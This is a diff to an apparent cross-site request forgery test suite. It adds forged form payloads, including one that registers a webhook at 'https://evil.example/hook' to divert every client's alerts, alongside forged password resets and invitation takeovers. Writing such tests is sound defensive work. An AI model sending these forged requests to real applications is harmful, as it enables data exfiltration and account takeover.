@@ -27,6 +27,8 @@ let bystanderCookie = '';
 /** Live links a successful forgery could use: an invitation, and a reset of the victim's password. */
 let inviteToken = '';
 let resetToken = '';
+/** A channel a forged test would send on (an attempt and an email). */
+let channelId = '';
 
 /** The attacker's site: `/attack?form=<json>` is a page that posts that form to the app at once. */
 function startAttacker(): Promise<Server> {
@@ -76,6 +78,8 @@ function formFor(route: string): { path: string; fields: Record<string, string> 
     '/api/admin/clients': { fields: { id: 'evil', name: 'Evil', timezone: 'UTC' } },
     '/api/admin/clients/test-connection': { fields: { databaseUrl: 'postgres://127.0.0.1:5432/postgres' } },
     '/api/tokens': { fields: { name: 'stolen', kind: 'personal' } },
+    '/api/channels': { fields: { name: 'Leak', kind: 'webhook', url: 'https://evil.example/hook' } }, // every client's alerts to the attacker
+    '/api/channels/:id/test': { path: `/api/channels/${channelId}/test`, fields: {} },
     '/invitations/:token': { path: `/invitations/${inviteToken}`, fields: { name: 'Mallory', password: 'attacker-chosen-password-1234' } },
     '/password-reset': { fields: { email: victim.email } },
     '/password-reset/:token': { path: `/password-reset/${resetToken}`, fields: { password: 'attacker-chosen-password-1234' } },
@@ -96,6 +100,8 @@ const snapshot = () => world.sql(`SELECT
   (SELECT count(*)::int FROM access.tokens) AS tokens,
   (SELECT count(*)::int FROM tenants.clients) AS clients,
   (SELECT count(*)::int FROM notify.outbox) AS emails,
+  (SELECT count(*)::int FROM notify.channels) AS channels,
+  (SELECT count(*)::int FROM notify.delivery_attempts) AS attempts,
   (SELECT count(*)::int FROM access.audit) AS audit`);
 
 beforeAll(async () => {
@@ -112,6 +118,10 @@ beforeAll(async () => {
   inviteToken = ((await invited.json()) as { link: string }).link.split('/').at(-1)!;
   const reset = await fetch(`${world.base}/api/users/${victim.id}/password-reset`, { method: 'POST', headers: bearer(KEYS.admin) });
   resetToken = ((await reset.json()) as { link: string }).link.split('/').at(-1)!;
+  const channel = await fetch(`${world.base}/api/channels`, {
+    method: 'POST', headers: { ...bearer(KEYS.admin), 'content-type': 'application/json' }, body: JSON.stringify({ name: 'Ops', kind: 'email', addresses: ['ops@agency.example'] }),
+  });
+  channelId = ((await channel.json()) as { channel: { id: string } }).channel.id;
   victimPage = await openPage(browser);
   await signInAs(victimPage, world.base, victim.email, PERSON_PASSWORD);
 });
